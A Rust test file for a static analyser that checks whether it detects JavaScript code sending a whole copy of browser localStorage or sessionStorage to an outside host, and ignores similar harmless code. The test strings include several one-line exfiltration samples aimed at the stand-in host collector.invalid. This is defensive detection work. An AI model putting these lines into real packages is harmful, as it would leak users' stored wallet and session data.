//! Ways by which what is taken changes hands before it leaves: channels, workers, emitters of packages,
//! requests that are told their address first, buffers that are filled byte by byte, uploads.
//!
//! Beside each stand near misses, which look like it and are honest.

use weir_model::contents::{Flow, SinkKind, SourceKind, Surface};

use super::{installed, run};
use crate::Facts;

use SinkKind::{Http, Socket};
use SourceKind::WalletOrProfile;

/// Facts of a package whose main file is `index.js`, where an import runs it.
fn imported(files: &[(&str, &str)]) -> Facts {
    run(files, &[], &[(Surface::Import, "./index.js")])
}

fn leaves(facts: &Facts, source: SourceKind) -> bool {
    let is_seen = |flow: &Flow| flow.source == source && matches!(flow.sink, Http | Socket);
    facts.flows.iter().any(is_seen)
}

/// Forms that are found wherever they run, and what stays silent beside them.
fn are_told_apart(source: SourceKind, caught: &[&str], silent: &[&str]) {
    let mut wrong = String::new();
    for code in caught {
        for facts in [
            installed(&[("index.js", code)]),
            imported(&[("index.js", code)]),
        ] {
            if !leaves(&facts, source) {
                wrong.push_str(&format!(
                    "unseen: {code}: {:?} {:?}\n",
                    facts.flows, facts.unread
                ));
            }
        }
    }
    for code in silent {
        for facts in [
            installed(&[("index.js", code)]),
            imported(&[("index.js", code)]),
        ] {
            if !facts.flows.is_empty() {
                wrong.push_str(&format!("alarm: {code}: {:?}\n", facts.flows));
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn storage_that_is_spread_is_read_whole() {
    are_told_apart(
        WalletOrProfile,
        &[
            "fetch('https://collector.invalid', { method: 'POST', body: JSON.stringify({ ...localStorage }) })",
            "fetch('https://collector.invalid', { method: 'POST', body: JSON.stringify(Object.entries({ ...sessionStorage })) })",
            "const all = { at: location.href, ...window.localStorage }; navigator.sendBeacon('https://collector.invalid', JSON.stringify(all))",
            "const kept = { here: { ...localStorage } }; fetch('https://collector.invalid?d=' + btoa(JSON.stringify(kept)))",
            "require('axios').post('https://collector.invalid', { ...localStorage })",
        ],
        &[
            "const { theme } = { ...localStorage }; fetch('https://api.example', { body: theme })",
            "const kept = { ...localStorage }; fetch('https://api.example', { body: JSON.stringify({ t: kept.theme, s: kept['size'] }) })",
            "console.log({ ...localStorage }); fetch('https://api.example')",
            "fetch('/state', { method: 'POST', body: JSON.stringify({ ...localStorage }) })",
            "fetch('https://api.example', { body: JSON.stringify({ ...localStorage.theme }) })",
            "const wrap = new Wrapper(localStorage); fetch('https://api.example', { body: JSON.stringify({ ...wrap.options }) })",
            "const localStorage = { a: 1 }; fetch('https://api.example', { body: JSON.stringify({ ...localStorage }) })",
        ],
    );
}
